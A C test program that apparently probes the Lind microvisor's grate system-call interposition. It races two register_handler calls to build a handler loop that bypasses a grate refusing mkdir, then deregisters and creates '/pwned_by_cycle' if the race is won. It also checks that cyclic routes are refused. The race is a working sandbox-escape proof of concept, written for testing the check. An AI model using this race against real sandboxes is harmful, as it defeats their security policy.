/* Switching a grate off with two register_handler calls that race each other.
 *
 *   grate_cycle race N SECONDS   (under a grate that refuses mkdir)
 *
 * This cage P routes its mkdir through N children of its own, one over the other (each
 * a "grate": it exports pass_fptr_to_wt), above the grate it runs under, so that a
 * check of an entry walks a long chain. Then it forks C, and two threads race: one
 * sends P's mkdir to C, the other C's to P. Each change alone keeps the grate below
 * (P -> C -> ... -> grate, or C -> P -> ... -> grate) and is allowed; both at once make
 * a loop P -> C -> P with the grate in neither chain. If both pass their checks (each
 * read the other entry before it changed), P may deregister its mkdir entry and gets
 * the microvisor's mkdir back. Races for SECONDS or until it wins.
 *
 *   grate_cycle loop
 *
 * Without racing: a route that makes a loop (by register_handler, or by copying a
 * table) is refused, while a grate may still route a call to itself.
 *
 * Prints "WHAT RESULT ERRNO" lines and one "race ..." line. */
#include <errno.h>
#include <lind_syscall.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define NR SYS_mkdir

static int P, C, LAST;
static int hold[2];     /* children wait for EOF on hold[0]: they end when P does */
static volatile int stop;

long long pass_fptr_to_wt(uint64_t fn_ptr, uint64_t cageid, uint64_t a1, uint64_t c1,
                          uint64_t a2, uint64_t c2, uint64_t a3, uint64_t c3, uint64_t a4,
                          uint64_t c4, uint64_t a5, uint64_t c5, uint64_t a6, uint64_t c6)
{
	return -ENOSYS;
}

static int handler(void)
{
	return -ENOSYS;
}
#define H ((uint64_t)(uintptr_t)&handler)

static void show(const char *what, int r)
{
	printf("%s %d %d\n", what, r, r < 0 ? errno : 0);
	fflush(stdout);
}

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}

/* A child that waits until P ends. */
static int child(void)
{
	int pid = fork();
	if (pid == 0) {
		char c;
		close(hold[1]);
		while (read(hold[0], &c, 1) != 0)
			;
		_exit(0);
	}
	return pid;
}

static void *flip_p(void *unused)
{
	while (!stop) {
		register_handler(P, NR, C, H);
		if (stop)
			break;
		register_handler(P, NR, LAST, H);
	}
	return 0;
}

static int race(int n, double seconds)
{
	errno = 0;
	show("mkdir_before", syscall(SYS_mkdir, "/before", 0755));
	show("plain_deregister", register_handler(P, NR, THREEI_DEREGISTER, 0));
	int built = 0, before_last = 0;
	for (; built < n; built++) {
		int c = child();
		if (c < 0) {
			show("fork", c);
			return 1;
		}
		int r = register_handler(P, NR, c, H);
		if (r < 0) {    /* a chain too long to check is refused */
			show("chain_stopped", r);
			break;
		}
		before_last = LAST;
		LAST = c;
	}
	printf("children %d 0\n", built);
	if (built < 2)
		return 1;
	if (built < n) {        /* one layer less, so that C -> P -> ... is not too long */
		LAST = before_last;
		show("shorter", register_handler(P, NR, LAST, H));
	}
	C = child();
	show("c_to_p", register_handler(C, NR, P, H));   /* alone: keeps the grate */
	show("c_back", register_handler(C, NR, LAST, H));
	int rounds = 0, ok = 0, refused = 0, won = 0, r = -1;
	double end = now() + seconds;
	while (!won && now() < end) {
		pthread_t th;
		stop = 0;
		pthread_create(&th, 0, flip_p, 0);
		for (;;) {
			rounds++;
			r = register_handler(C, NR, P, H);
			if (r == 0 || now() >= end)
				break;
			refused++;
		}
		stop = 1;
		pthread_join(th, 0);
		if (r == 0) {
			ok++;
			register_handler(P, NR, C, H);      /* refused unless the loop is there */
			if (register_handler(P, NR, THREEI_DEREGISTER, 0) == 0) {
				won = 1;
				break;
			}
			register_handler(P, NR, LAST, H);   /* a chain that keeps the grate */
			register_handler(C, NR, LAST, H);
		}
	}
	printf("race rounds=%d ok=%d refused=%d won=%d\n", rounds, ok, refused, won);
	show("deregister_after", register_handler(P, NR, THREEI_DEREGISTER, 0));
	errno = 0;
	show("mkdir_after", syscall(SYS_mkdir, "/pwned_by_cycle", 0755));
	return 0;
}

static int loop(void)
{
	int c = child(), d = child();
	show("p_to_c", register_handler(P, NR, c, H));
	show("c_to_p", register_handler(c, NR, P, H));          /* P -> C -> P */
	show("c_to_c", register_handler(c, NR, c, H));          /* C answers itself */
	show("c_deregister", register_handler(c, NR, THREEI_DEREGISTER, 0));
	show("d_to_p", register_handler(d, NR, P, H));          /* D -> P -> C */
	show("copy_d_to_c", copy_handler_table_to_cage(d, c));  /* C -> P -> C */
	show("copy_c_to_d", copy_handler_table_to_cage(c, d));  /* D -> microvisor */
	return 0;
}

int main(int argc, char **argv)
{
	P = getpid();
	pipe(hold);
	if (argc > 1 && strcmp(argv[1], "loop") == 0)
		return loop();
	if (argc > 3 && strcmp(argv[1], "race") == 0)
		return race(atoi(argv[2]), atof(argv[3]));
	fprintf(stderr, "usage: grate_cycle race N SECONDS | grate_cycle loop\n");
	return 2;
}
